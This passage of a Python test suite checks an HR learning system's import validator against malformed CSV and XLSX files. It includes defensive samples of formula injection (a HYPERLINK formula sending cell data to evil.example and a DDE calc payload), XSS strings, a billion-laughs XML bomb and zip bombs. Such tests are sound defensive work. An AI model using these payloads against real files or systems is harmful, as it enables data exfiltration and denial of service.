"""docs/quality.md R3: the 16 classes of malformed import files.

Each case asserts the exact ``RowError(row, column, code)`` (or the ``UnreadableFile`` code
for files that cannot be read at all) and that nothing was written.
"""

import datetime
import io
import re
import time
import zipfile

import pytest

from lms.competencies.models import Competency, LearningRecord, PositionRequirement
from lms.core.imports import (
    KindNotAllowed,
    RowError,
    UnreadableFile,
    get_kind,
    run_export,
    run_import,
)
from lms.people.models import Employee
from tests.factories.people import pns_nip

from .conftest import EMPLOYEE_HEADER, counts, csv_bytes, employee_row, xlsx_bytes

pytestmark = pytest.mark.django_db


def codes(report) -> list[tuple[int, str, str]]:
    return [(error.row, error.column, error.code) for error in report.errors]


def rejected(kind, data, filename="berkas.csv", **kwargs):
    """Run with ``commit=True`` and assert nothing at all was written."""
    before = counts()
    report = run_import(kind, data, filename, commit=True, **kwargs)
    assert not report.committed
    assert counts() == before
    return report


def rejected_by_scope(kind, data, *, user, filename="berkas.csv"):
    """Like :func:`rejected`, through the kind itself: ``run_import`` refuses a user without
    the kind's permissions before any row is read, so the OPD scope (the second defence) is
    exercised here directly."""
    before = counts()
    report = get_kind(kind).run(data, filename, user=user, commit=True)
    assert not report.committed
    assert counts() == before
    return report


RECORD_HEADER = [
    "nip",
    "title",
    "provider",
    "path",
    "jenis_diklat",
    "jp",
    "start_date",
    "end_date",
    "certificate_number",
]


def record_row(nip, start="01/07/2024", end="03/07/2024", title="Bimtek SPBE", jp="12"):
    return [nip, title, "BPSDM Provinsi", "klasikal", "8", jp, start, end, ""]


# ---------------------------------------------------------------- 1. encodings and BOM


def test_r1_cp1252_smart_quotes_are_read_without_mojibake(org, new_nips):
    nip = new_nips(1)[0]
    rows = [EMPLOYEE_HEADER, employee_row(nip, "Budi \u201cBud\u201d Santoso \u2013 Ka\u2019ur")]
    report = run_import("employees", csv_bytes(rows, encoding="cp1252"), "a.csv", commit=True)
    assert report.ok and report.committed
    assert Employee.objects.get(nip=nip).name == "Budi \u201cBud\u201d Santoso \u2013 Ka\u2019ur"
    assert any("Windows-1252" in note for note in report.notes)


def test_r1_cp1252_file_with_a_bad_row_reports_it_and_writes_nothing(org, new_nips):
    nip = new_nips(1)[0]
    rows = [
        EMPLOYEE_HEADER,
        employee_row(nip, "Andi \u201cAn\u201d"),
        employee_row("123", "Caf\u00e9"),
    ]
    report = rejected("employees", csv_bytes(rows, encoding="cp1252"))
    assert codes(report) == [(3, "nip", "nip_length")]
    assert report.preview[0]["name"] == "Andi \u201cAn\u201d"


def test_r1_utf8_bom_in_the_header_is_not_part_of_the_first_column(org, new_nips):
    nip = new_nips(1)[0]
    data = csv_bytes([EMPLOYEE_HEADER, employee_row(nip)], bom=True)
    assert data.startswith(b"\xef\xbb\xbfnip,")
    report = run_import("employees", data, "a.csv", commit=True)
    assert report.ok and report.committed
    assert Employee.objects.filter(nip=nip).exists()


def test_r1_utf8_bom_file_with_a_missing_nip_is_rejected(org):
    data = csv_bytes([EMPLOYEE_HEADER, employee_row("", "Tanpa NIP")], bom=True)
    assert codes(rejected("employees", data)) == [(2, "nip", "nip_empty")]


def test_r1_text_that_is_no_known_encoding_is_unreadable(org):
    data = b"nip,name\n" + b"\x81\x8d\x8f\x90\x9d\xff\xfe\n"
    with pytest.raises(UnreadableFile) as caught:
        run_import("employees", data, "a.csv", commit=False)
    assert caught.value.code == "encoding"


# ---------------------------------------- 2. missing, duplicated or renamed headers


def test_r2_missing_required_column(org, new_nips):
    header = [h for h in EMPLOYEE_HEADER if h != "nip"]
    data = csv_bytes([header, employee_row(new_nips(1)[0])[1:]])
    assert codes(rejected("employees", data)) == [(1, "nip", "missing_column")]


def test_r2_duplicated_header(org, new_nips):
    header = [*EMPLOYEE_HEADER, "NAME"]
    data = csv_bytes([header, [*employee_row(new_nips(1)[0]), "Lain"]])
    report = rejected("employees", data)
    assert codes(report) == [(1, "NAME", "duplicate_column")]
    assert "lebih dari sekali" in report.errors[0].message


def test_r2_renamed_header_is_reported_as_missing_and_the_unknown_one_noted(org, new_nips):
    header = ["Nomor Pegawai", *EMPLOYEE_HEADER[1:]]
    data = csv_bytes([header, employee_row(new_nips(1)[0])])
    report = rejected("employees", data)
    assert codes(report) == [(1, "nip", "missing_column")]
    assert any("Nomor Pegawai" in note for note in report.notes)


# ------------------------------- 3. semicolons, unbalanced quotes, embedded newlines


def test_r3_semicolon_csv_from_indonesian_excel(org, new_nips):
    nip = new_nips(1)[0]
    rows = [EMPLOYEE_HEADER, employee_row(nip, "Siti Rahma", gelar=("dr.", "M.Kes, Sp.KK"))]
    report = run_import("employees", csv_bytes(rows, delimiter=";"), "a.csv", commit=True)
    assert report.ok and report.committed
    assert Employee.objects.get(nip=nip).gelar_belakang == "M.Kes, Sp.KK"
    assert any("titik koma" in note for note in report.notes)


def test_r3_tab_separated_text(org, new_nips):
    nip = new_nips(1)[0]
    report = run_import(
        "employees",
        csv_bytes([EMPLOYEE_HEADER, employee_row(nip)], delimiter="\t"),
        "a.txt",
        commit=True,
    )
    assert report.ok and Employee.objects.filter(nip=nip).exists()


def test_r3_unbalanced_quote_is_reported_at_its_row(org, new_nips):
    a, b, c = new_nips(3)
    text = (
        ",".join(EMPLOYEE_HEADER)
        + "\r\n"
        + ",".join(employee_row(a))
        + "\r\n"
        + f'{b},"Budi Santoso,,,L,PNS,III/a,DINKES,,,ya\r\n'
        + ",".join(employee_row(c))
        + "\r\n"
    )
    report = rejected("employees", text.encode())
    assert codes(report) == [(3, "", "csv_syntax")]


def test_r3_text_after_a_closing_quote_is_reported(org, new_nips):
    a = new_nips(1)[0]
    text = ",".join(EMPLOYEE_HEADER) + f'\r\n{a},"Budi" Santoso,,,L,PNS,III/a,DINKES,,,ya\r\n'
    assert codes(rejected("employees", text.encode())) == [(2, "", "csv_syntax")]


def test_r3_embedded_newlines_in_quoted_cells_keep_row_numbers_right(org, new_nips):
    a, b = new_nips(2)
    rows = [EMPLOYEE_HEADER, employee_row(a, "Budi\nSantoso"), employee_row(b, "X" * 151)]
    report = rejected("employees", csv_bytes(rows))
    # The multi-line cell is one row (row 2), as in Excel; the long name is on row 3.
    assert codes(report) == [(3, "name", "too_long")]
    assert report.preview[0]["name"] == "Budi Santoso"


# ------------------------------------------------------------------------- 4. NIP


@pytest.mark.parametrize(
    ("nip", "code"),
    [
        ("1985010120100110", "nip_length"),
        ("19850101201001100", "nip_length"),  # 17 digits: a digit (e.g. a leading zero) lost
        ("1.98501E+17", "nip_scientific"),
        ("1,98501E+17", "nip_scientific"),
        ("19850101201001100X", "nip_chars"),
        ("198501012010131001", "nip_tmt_month"),
        ("198501012010013001", "nip_gender"),
        ("198501012010011000", "nip_sequence"),
    ],
)
def test_r4_bad_nip(org, nip, code):
    data = csv_bytes([EMPLOYEE_HEADER, employee_row(nip)])
    report = rejected("employees", data)
    assert codes(report) == [(2, "nip", code)]


def test_r4_nip_that_excel_turned_into_a_number_in_xlsx(org):
    rows = [EMPLOYEE_HEADER, employee_row(1.98501012010011e17)]
    report = rejected("employees", xlsx_bytes(rows), "a.xlsx")
    assert codes(report) == [(2, "nip", "nip_scientific")]
    assert "Teks" in report.errors[0].message


@pytest.mark.parametrize(
    "written", ["19850101 201001 1 001", "19850101.201001.1.001", "\u00a019850101 201001 1 001 "]
)
def test_r4_nip_with_spaces_or_dots_is_accepted_and_stored_plain(org, written):
    report = run_import(
        "employees", csv_bytes([EMPLOYEE_HEADER, employee_row(written)]), "a.csv", commit=True
    )
    assert report.ok, report.errors
    assert Employee.objects.filter(nip="198501012010011001").exists()


def test_r4_pppk_rule_depends_on_the_employee_type(org):
    nip = "198805172022211002"  # contract count 21 where a PNS has a month
    as_pns = rejected("employees", csv_bytes([EMPLOYEE_HEADER, employee_row(nip)]))
    assert codes(as_pns) == [(2, "nip", "nip_tmt_month")]
    as_pppk = run_import(
        "employees",
        csv_bytes([EMPLOYEE_HEADER, employee_row(nip, type_="PPPK", golongan="IX")]),
        "a.csv",
        commit=True,
    )
    assert as_pppk.ok and Employee.objects.get(nip=nip).employee_type == "PPPK"


# -------------------------------------------------------------------- 5. duplicates


def test_r5_duplicate_nip_in_the_file_reports_both_rows(org, new_nips):
    a, b = new_nips(2)
    rows = [EMPLOYEE_HEADER, employee_row(a), employee_row(b), employee_row(a)]
    report = rejected("employees", csv_bytes(rows))
    assert codes(report) == [(2, "nip", "duplicate_in_file"), (4, "nip", "duplicate_in_file")]
    assert "baris 4" in report.errors[0].message and "baris 2" in report.errors[1].message


def test_r5_duplicate_written_differently_is_still_a_duplicate(org, new_nips):
    a = new_nips(1)[0]
    spaced = f"{a[:8]} {a[8:14]} {a[14]} {a[15:]}"
    report = rejected(
        "employees", csv_bytes([EMPLOYEE_HEADER, employee_row(a), employee_row(spaced)])
    )
    assert codes(report) == [(2, "nip", "duplicate_in_file"), (3, "nip", "duplicate_in_file")]


def test_r5_nip_already_in_another_opd_is_a_conflict_not_a_move(org):
    rows = [EMPLOYEE_HEADER, employee_row(org.agus.nip, "Agus Salim", opd="DINKES")]
    report = rejected("employees", csv_bytes(rows))
    assert codes(report) == [(2, "nip", "nip_other_opd")]
    assert "DISDIK" in report.errors[0].message
    org.agus.refresh_from_db()
    assert org.agus.opd == org.disdik


# -------------------------------------------------------------- 6. unknown codes


def test_r6_unknown_opd_is_rejected_and_not_created(org, new_nips):
    rows = [EMPLOYEE_HEADER, employee_row(new_nips(1)[0], opd="DISHUB")]
    assert codes(rejected("employees", csv_bytes(rows))) == [(2, "opd_code", "unknown_opd")]


def test_r6_unknown_position_is_rejected_and_not_created(org, new_nips):
    rows = [EMPLOYEE_HEADER, employee_row(new_nips(1)[0], position="JF-TIDAK-ADA")]
    assert codes(rejected("employees", csv_bytes(rows))) == [
        (2, "position_code", "unknown_position")
    ]


def test_r6_unknown_competency_is_rejected_and_not_created(org):
    rows = [["position_code", "competency_code", "required_level"], ["JF-PK", "XX.99", "3"]]
    assert codes(rejected("requirements", csv_bytes(rows))) == [
        (2, "competency_code", "unknown_competency")
    ]
    assert not Competency.objects.filter(code="XX.99").exists()


def test_r6_unknown_parent_opd_is_rejected(org):
    rows = [
        ["code", "name", "type", "parent_code"],
        ["KEL01", "Kelurahan Satu", "Kelurahan", "KEC99"],
    ]
    assert codes(rejected("opds", csv_bytes(rows))) == [(2, "parent_code", "unknown_opd")]


# ------------------------------------------------------------------------ 7. dates


@pytest.mark.parametrize(
    ("start", "code"),
    [
        ("31/02/2024", "date_invalid"),
        ("2024-02-30", "date_invalid"),
        ("07/17/2024", "date_ambiguous"),  # month first: not silently swapped
        ("kemarin", "date_format"),
        ("1/7/24", "date_format"),
        ("01/07/1850", "date_range"),
    ],
)
def test_r7_bad_dates(org, start, code):
    rows = [RECORD_HEADER, record_row(org.siti.nip, start=start, end="31/12/2024")]
    assert codes(rejected("training-records", csv_bytes(rows))) == [(2, "start_date", code)]


def test_r7_end_before_start(org):
    rows = [RECORD_HEADER, record_row(org.siti.nip, start="05/07/2024", end="01/07/2024")]
    assert codes(rejected("training-records", csv_bytes(rows))) == [(2, "end_date", "date_order")]


def test_r7_excel_serial_numbers_day_first_text_and_date_cells(org):
    rows = [
        RECORD_HEADER,
        record_row(org.siti.nip, start="45123", end="45124", title="A"),  # Excel serials
        record_row(org.siti.nip, start="02/03/2024", end="02-03-2024", title="B"),  # day first
        record_row(org.siti.nip, start="2024-03-02", end="2024-03-02", title="C"),
    ]
    sheet = [*rows, record_row(org.siti.nip, title="D")]
    sheet[-1][6:8] = [datetime.datetime(2024, 8, 1), datetime.date(2024, 8, 2)]  # real date cells
    report = run_import("training-records", xlsx_bytes(sheet), "a.xlsx", commit=True)
    assert report.ok, report.errors
    stored = {r.title: (r.start_date, r.end_date) for r in LearningRecord.objects.all()}
    assert stored == {
        "A": (datetime.date(2023, 7, 16), datetime.date(2023, 7, 17)),
        "B": (datetime.date(2024, 3, 2), datetime.date(2024, 3, 2)),
        "C": (datetime.date(2024, 3, 2), datetime.date(2024, 3, 2)),
        "D": (datetime.date(2024, 8, 1), datetime.date(2024, 8, 2)),
    }


def test_r7_excel_serials_agree_with_openpyxl(org):
    from openpyxl.utils.datetime import from_excel

    from lms.core.imports.values import parse_date

    for serial in (61, 36526, 45123, 45124, 47000):
        assert parse_date(str(serial)) == from_excel(serial).date()


# ----------------------------------------------------------------------- 8. levels


@pytest.mark.parametrize(
    ("level", "code"),
    [
        ("0", "level_range"),
        ("6", "level_range"),
        ("-1", "level_range"),
        ("3,5", "level_decimal"),
        ("3.5", "level_decimal"),
        ("tiga", "level_not_number"),
        ("III", "level_not_number"),
    ],
)
def test_r8_bad_levels(org, level, code):
    rows = [["position_code", "competency_code", "required_level"], ["JF-PK", "LD.01", level]]
    report = rejected("requirements", csv_bytes(rows))
    assert codes(report) == [(2, "required_level", code)]
    assert "1" in report.errors[0].message and "5" in report.errors[0].message


def test_r8_level_from_a_number_cell_is_accepted(org):
    rows = [["position_code", "competency_code", "required_level"], ["JF-PK", "LD.01", 4.0]]
    report = run_import("requirements", xlsx_bytes(rows), "a.xlsx", commit=True)
    assert report.ok
    assert PositionRequirement.objects.get(position=org.analis).required_level == 4


# ------------------------------------------------------------- 9. formula injection

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+6281234567",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_r9_formula_payloads_are_stored_as_text_and_escaped_on_export(org, new_nips, fmt):
    nips = new_nips(len(PAYLOADS))
    rows = [EMPLOYEE_HEADER] + [employee_row(n, p) for n, p in zip(nips, PAYLOADS, strict=True)]

    def as_text(workbook):  # text cells, as a user typing '=... or pasting values gets
        for cell in workbook.active["B"]:
            cell.data_type = "s"

    data = csv_bytes(rows) if fmt == "csv" else xlsx_bytes(rows, before=as_text)
    report = run_import("employees", data, f"a.{fmt}", commit=True)
    assert report.ok, report.errors
    stored = [Employee.objects.get(nip=n).name for n in nips]
    assert stored == [p.strip() for p in PAYLOADS]  # leading TAB/CR removed by normalisation

    exported = run_export("employees", fmt)
    if fmt == "csv":
        text = exported.decode("utf-8-sig")
        assert "\r\n'=HYPERLINK" not in text  # inside a quoted cell:
        assert '"\'=HYPERLINK(""http://evil.example/' in text
        for line in text.splitlines()[1:]:
            for cell in line.split(",")[1:2]:
                assert not cell.startswith(("=", "+", "-", "@")), cell
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(exported), read_only=True).worksheets[0]
        names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert all(not name.startswith(("=", "+", "-", "@")) for name in names)
        assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Klik")' in names
    again = run_import("employees", exported, f"b.{fmt}", commit=True)
    assert again.ok and again.created == 0 and again.updated == 0
    assert [Employee.objects.get(nip=n).name for n in nips] == stored


def test_r9_a_real_formula_cell_in_xlsx_is_rejected(org, new_nips):
    nip = new_nips(1)[0]
    rows = [EMPLOYEE_HEADER, employee_row(nip, '=CONCATENATE("Bu","di")')]

    def make_formula(workbook):  # openpyxl writes a str starting with "=" as a formula
        assert workbook.active["B2"].data_type == "f"

    report = rejected("employees", xlsx_bytes(rows, before=make_formula), "a.xlsx")
    assert codes(report) == [(2, "name", "formula")]


def test_r9_a_text_cell_starting_with_equals_in_xlsx_is_text(org, new_nips):
    nip = new_nips(1)[0]

    def as_text(workbook):
        workbook.active["B2"].value = "=1+1"
        workbook.active["B2"].data_type = "s"

    report = run_import(
        "employees",
        xlsx_bytes([EMPLOYEE_HEADER, employee_row(nip)], before=as_text),
        "a.xlsx",
        commit=True,
    )
    assert report.ok, report.errors
    assert Employee.objects.get(nip=nip).name == "=1+1"


# -------------------------------------------------------------- 10. HTML in names

HTML = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "Budi & <b>Sons</b>"]


def test_r10_html_in_names_is_stored_as_is(org, new_nips):
    nips = new_nips(3)
    rows = [EMPLOYEE_HEADER] + [employee_row(n, h) for n, h in zip(nips, HTML, strict=True)]
    report = run_import("employees", csv_bytes(rows), "a.csv", commit=True)
    assert report.ok, report.errors
    assert [Employee.objects.get(nip=n).name for n in nips] == HTML
    assert [row["name"] for row in report.preview] == HTML  # the template escapes on render
    from django.template import Context, Template

    rendered = Template("{% for r in rows %}<td>{{ r.name }}</td>{% endfor %}").render(
        Context({"rows": report.preview})
    )
    assert "<script>" not in rendered and "&lt;script&gt;" in rendered


# ------------------------------------------- 11. over-long fields, NUL, invisible spaces


def test_r11_over_long_name_reports_the_limit(org, new_nips):
    report = rejected(
        "employees", csv_bytes([EMPLOYEE_HEADER, employee_row(new_nips(1)[0], "A" * 151)])
    )
    assert codes(report) == [(2, "name", "too_long")]
    assert "151" in report.errors[0].message and "150" in report.errors[0].message


def test_r11_over_long_gelar_and_email(org, new_nips):
    row = employee_row(new_nips(1)[0], gelar=("D" * 41, ""), email="a" * 250 + "@contoh.go.id")
    report = rejected("employees", csv_bytes([EMPLOYEE_HEADER, row]))
    assert codes(report) == [(2, "gelar_depan", "too_long"), (2, "email", "too_long")]


def test_r11_nul_zero_width_and_nbsp_are_normalised_before_the_length_check(org, new_nips):
    a, b = new_nips(2)
    padded = "B" * 150 + "\u200b\u200b\ufeff\x00"
    rows = [
        EMPLOYEE_HEADER,
        employee_row(a, "\u00a0Budi\u200b\u00a0 \x00Santoso\u2060 "),
        employee_row(b, padded),
    ]
    report = run_import("employees", csv_bytes(rows), "a.csv", commit=True)
    assert report.ok, report.errors
    assert Employee.objects.get(nip=a).name == "Budi Santoso"
    assert Employee.objects.get(nip=b).name == "B" * 150


def test_r11_nul_bytes_in_xlsx_and_nbsp_in_codes(org, new_nips):
    nip = new_nips(1)[0]
    report = run_import(
        "employees",
        xlsx_bytes([EMPLOYEE_HEADER, employee_row(nip, "Siti\u00a0Nur", opd="\u00a0DINKES\u200b")]),
        "a.xlsx",
        commit=True,
    )
    assert report.ok, report.errors
    assert Employee.objects.get(nip=nip).opd == org.dinkes


# ------------------------- 12. blank rows, data from row 3, merged headers, sheets


def test_r12_blank_rows_in_the_middle_keep_row_numbers(org, new_nips):
    a, b = new_nips(2)
    rows = [EMPLOYEE_HEADER, employee_row(a), [], ["", " ", ""], employee_row(b, opd="NOPE")]
    for data, name in ((csv_bytes(rows), "a.csv"), (xlsx_bytes(rows), "a.xlsx")):
        report = rejected("employees", data, name)
        assert codes(report) == [(5, "opd_code", "unknown_opd")]
        assert report.total_rows == 2


def test_r12_title_block_merged_cells_and_data_from_row_3(org, new_nips):
    a, b = new_nips(2)

    def title(workbook):
        sheet = workbook.active
        sheet.insert_rows(1, 2)
        sheet["A1"] = "DAFTAR PEGAWAI DINAS KESEHATAN 2026"
        sheet.merge_cells("A1:K1")
        sheet.merge_cells("J3:K3")  # a merged header cell: K3 is empty, J3 holds "email"

    rows = [EMPLOYEE_HEADER[:10], employee_row(a)[:10], employee_row(b, opd="NOPE")[:10]]
    report = rejected("employees", xlsx_bytes(rows, before=title), "a.xlsx")
    assert codes(report) == [(5, "opd_code", "unknown_opd")]
    assert any("baris 3" in note for note in report.notes)
    good = run_import("employees", xlsx_bytes(rows[:2], before=title), "a.xlsx", commit=True)
    assert good.ok and Employee.objects.filter(nip=a).exists()


def test_r12_only_the_first_visible_sheet_is_read(org, new_nips):
    a, b = new_nips(2)
    rows = [EMPLOYEE_HEADER, employee_row(a)]

    def hide_first(workbook):
        workbook.active.sheet_state = "hidden"
        workbook.active = 1

    data = xlsx_bytes(
        [EMPLOYEE_HEADER, employee_row(b, opd="NOPE")],
        title="Lama",
        extra_sheets=[("Pegawai", "visible", rows), ("Catatan", "visible", [["x"]])],
        before=hide_first,
    )
    report = run_import("employees", data, "a.xlsx", commit=True)
    assert report.ok, report.errors
    assert Employee.objects.filter(nip=a).exists() and not Employee.objects.filter(nip=b).exists()
    assert any("Pegawai" in n and "Catatan" in n and "Lama" in n for n in report.notes)


# ------------------------------------------------ 13. bogus dimension, too many rows


def _rewrite(data: bytes, name: str, change) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            target.writestr(info.filename, change(content) if info.filename == name else content)
    return output.getvalue()


def test_r13_bogus_dimension_does_not_walk_a_million_rows(org, new_nips):
    a, b = new_nips(2)
    data = xlsx_bytes([EMPLOYEE_HEADER, employee_row(a), employee_row(b, opd="NOPE")])
    bogus = _rewrite(
        data,
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:XFD1048576"', xml),
    )
    assert b"XFD1048576" in zipfile.ZipFile(io.BytesIO(bogus)).read("xl/worksheets/sheet1.xml")
    started = time.perf_counter()
    report = rejected("employees", bogus, "a.xlsx")
    assert time.perf_counter() - started < 5
    assert codes(report) == [(3, "opd_code", "unknown_opd")]
    assert report.total_rows == 2


def test_r13_a_too_small_dimension_does_not_hide_rows_or_columns(org, new_nips):
    a, b = new_nips(2)
    data = xlsx_bytes([EMPLOYEE_HEADER, employee_row(a), employee_row(b, opd="NOPE")])
    small = _rewrite(
        data,
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:B2"', xml),
    )
    report = rejected("employees", small, "a.xlsx")
    assert codes(report) == [(3, "opd_code", "unknown_opd")]
    assert report.preview[0]["is_active"] == "ya"  # column K, beyond the claimed B


def test_r13_a_row_far_below_stops_at_the_row_limit(org, new_nips, settings):
    settings.LMS_IMPORT_MAX_ROWS = 50
    data = xlsx_bytes([EMPLOYEE_HEADER, employee_row(new_nips(1)[0])])
    far = _rewrite(
        data,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(
            b"</sheetData>",
            b'<row r="1048576"><c r="A1048576" t="inlineStr">'
            b"<is><t>x</t></is></c></row></sheetData>",
        ),
    )
    started = time.perf_counter()
    report = rejected("employees", far, "a.xlsx")
    assert time.perf_counter() - started < 5
    assert codes(report) == [(52, "", "too_many_rows")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_r13_more_rows_than_the_limit(org, settings, fmt):
    settings.LMS_IMPORT_MAX_ROWS = 5
    rows = [EMPLOYEE_HEADER] + [employee_row(pns_nip(200 + i)) for i in range(8)]
    data = csv_bytes(rows) if fmt == "csv" else xlsx_bytes(rows)
    report = rejected("employees", data, f"a.{fmt}")
    assert codes(report) == [(7, "", "too_many_rows")]
    assert "5" in report.errors[0].message


# ---------------------------------------- 14. size limit, zip bomb, entity expansion


def test_r14_file_over_the_size_limit(org, settings):
    settings.LMS_IMPORT_MAX_BYTES = 1000
    data = csv_bytes([EMPLOYEE_HEADER] + [employee_row(pns_nip(300 + i)) for i in range(30)])
    with pytest.raises(UnreadableFile) as caught:
        rejected("employees", data)
    assert caught.value.code == "too_big"


def test_r14_zip_bomb_by_compression_ratio(org):
    data = xlsx_bytes([EMPLOYEE_HEADER, employee_row(pns_nip(300))])
    padding = b" " * (30 * 1024 * 1024)  # 30 MB of spaces deflate to about 30 KB
    bomb = _rewrite(
        data,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b"<sheetData>", padding + b"<sheetData>", 1),
    )  # noqa: E501
    assert len(bomb) < 200_000
    with pytest.raises(UnreadableFile) as caught:
        rejected("employees", bomb, "a.xlsx")
    assert caught.value.code == "zip_bomb"


def test_r14_zip_bomb_by_total_size(org, settings):
    settings.LMS_IMPORT_MAX_UNCOMPRESSED_BYTES = 200_000
    data = xlsx_bytes([EMPLOYEE_HEADER] + [employee_row(pns_nip(300 + i)) for i in range(400)])
    with pytest.raises(UnreadableFile) as caught:
        rejected("employees", data, "a.xlsx")
    assert caught.value.code == "zip_bomb"


def test_r14_zip_whose_directory_lies_about_sizes_is_caught_while_reading(org):
    data = xlsx_bytes([EMPLOYEE_HEADER, employee_row(pns_nip(300))])
    padding = b" " * (3 * 1024 * 1024)
    big = _rewrite(
        data,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b"<sheetData>", padding + b"<sheetData>", 1),
    )  # noqa: E501
    # Rewrite the central directory: claim the sheet is 1 KB uncompressed.
    archive = zipfile.ZipFile(io.BytesIO(big))
    info = archive.getinfo("xl/worksheets/sheet1.xml")
    real = info.file_size.to_bytes(4, "little")
    marker = big.rfind(b"PK\x01\x02", 0, big.rfind(b"xl/worksheets/sheet1.xml"))
    lying = bytearray(big)
    position = lying.index(real, marker)
    lying[position : position + 4] = (1024).to_bytes(4, "little")
    assert zipfile.ZipFile(io.BytesIO(bytes(lying))).getinfo(info.filename).file_size == 1024
    with pytest.raises(UnreadableFile) as caught:
        rejected("employees", bytes(lying), "a.xlsx")
    assert caught.value.code == "corrupt"  # decompression stops at the claimed size: bad CRC


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml"])
def test_r14_xml_entity_expansion_is_refused(org, part):
    from lms.core.imports.reading import defusedxml_active

    assert defusedxml_active()
    data = xlsx_bytes([EMPLOYEE_HEADER, employee_row(pns_nip(300), "&lol9;")])
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
            for i in range(1, 10)
        )
        + b"]>"
    )

    def inject(xml: bytes) -> bytes:
        return laughs + re.sub(rb"^<\?xml[^>]*\?>", b"", xml)

    with pytest.raises(UnreadableFile) as caught:
        rejected("employees", _rewrite(data, part, inject), "a.xlsx")
    assert caught.value.code == "xml_entities"


# ------------------------------------------------------------------ 15. wrong types


def _ole2(extra: bytes = b"") -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + extra + b"\x00" * 1024


@pytest.mark.parametrize(
    ("data", "filename", "code"),
    [
        (
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200 + b"This program",
            "pegawai.csv",
            "executable",
        ),  # noqa: E501
        (b"MZ\x90\x00" + b"\x00" * 300, "pegawai.xlsx", "executable"),
        (_ole2(), "pegawai.xls", "xls_legacy"),
        (_ole2("EncryptionInfo".encode("utf-16-le")), "pegawai.xlsx", "encrypted"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "pegawai.csv", "pdf"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 50, "pegawai.csv", "image"),
        (bytes(range(256)) * 10, "pegawai.csv", "binary"),
    ],
)
def test_r15_wrong_file_types_are_sniffed_by_content(org, data, filename, code):
    with pytest.raises(UnreadableFile) as caught:
        rejected("employees", data, filename)
    assert caught.value.code == code
    assert caught.value.message


def test_r15_corrupted_zip(org):
    data = xlsx_bytes([EMPLOYEE_HEADER, employee_row(pns_nip(300))])
    for broken in (data[: len(data) // 2], data[:30] + b"\x00" * 40 + data[70:]):
        with pytest.raises(UnreadableFile) as caught:
            rejected("employees", broken, "a.xlsx")
        assert caught.value.code == "corrupt"


def test_r15_zip_that_is_not_a_workbook(org):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    with pytest.raises(UnreadableFile) as caught:
        rejected("employees", output.getvalue(), "a.xlsx")
    assert caught.value.code == "not_xlsx"


def test_r15_csv_renamed_xlsx_and_xlsx_renamed_csv_are_read_by_content(org, new_nips):
    a, b = new_nips(2)
    as_csv = run_import(
        "employees", csv_bytes([EMPLOYEE_HEADER, employee_row(a)]), "x.xlsx", commit=True
    )
    as_xlsx = run_import(
        "employees", xlsx_bytes([EMPLOYEE_HEADER, employee_row(b)]), "x.csv", commit=True
    )
    assert as_csv.ok and as_xlsx.ok
    assert Employee.objects.filter(nip__in=[a, b]).count() == 2
    assert any("CSV" in n for n in as_csv.notes) and any("XLSX" in n for n in as_xlsx.notes)


# ------------------------------------------------------------------------- 16. scope


def test_r16_rows_outside_the_importers_scope_are_rejected_and_logged(org, new_nips, caplog):
    a, b, c = new_nips(3)
    rows = [
        EMPLOYEE_HEADER,
        employee_row(a, opd="DINKES"),
        employee_row(b, opd="DISDIK"),
        employee_row(c, opd="PKM01"),  # a unit below Dinkes: in scope
        employee_row(org.agus.nip, "Agus Salim", opd="DISDIK"),
    ]
    caplog.set_level("WARNING", logger="lms.imports")
    report = rejected("employees", csv_bytes(rows), user=org.admin_a)
    assert codes(report) == [(3, "opd_code", "out_of_scope"), (5, "opd_code", "out_of_scope")]
    logged = [r for r in caplog.records if r.name == "lms.imports" and r.levelname == "WARNING"]
    assert len(logged) == 2
    assert all(f"user_id={org.admin_a.pk}" in r.getMessage() for r in logged)
    assert [re.search(r"row=(\d+)", r.getMessage())[1] for r in logged] == ["3", "5"]
    assert all("kind=employees" in r.getMessage() for r in logged)


def test_r16_moving_someone_from_outside_the_scope_is_neither_allowed_nor_revealing(org):
    rows = [EMPLOYEE_HEADER, employee_row(org.agus.nip, "Agus Salim", opd="DINKES")]
    report = rejected("employees", csv_bytes(rows), user=org.admin_a)
    assert codes(report) == [(2, "nip", "nip_other_opd")]
    assert "DISDIK" not in report.errors[0].message


@pytest.mark.parametrize(
    ("kind", "rows", "expected"),
    [
        (
            "opds",
            [["code", "name", "type", "parent_code"], ["SD01", "SD Negeri 1", "UPTD", "DISDIK"]],
            (2, "parent_code", "out_of_scope"),
        ),
        (
            "opds",
            [["code", "name", "type"], ["DISDIK", "Dinas Pendidikan Baru", "Dinas"]],
            (2, "code", "out_of_scope"),
        ),
        (
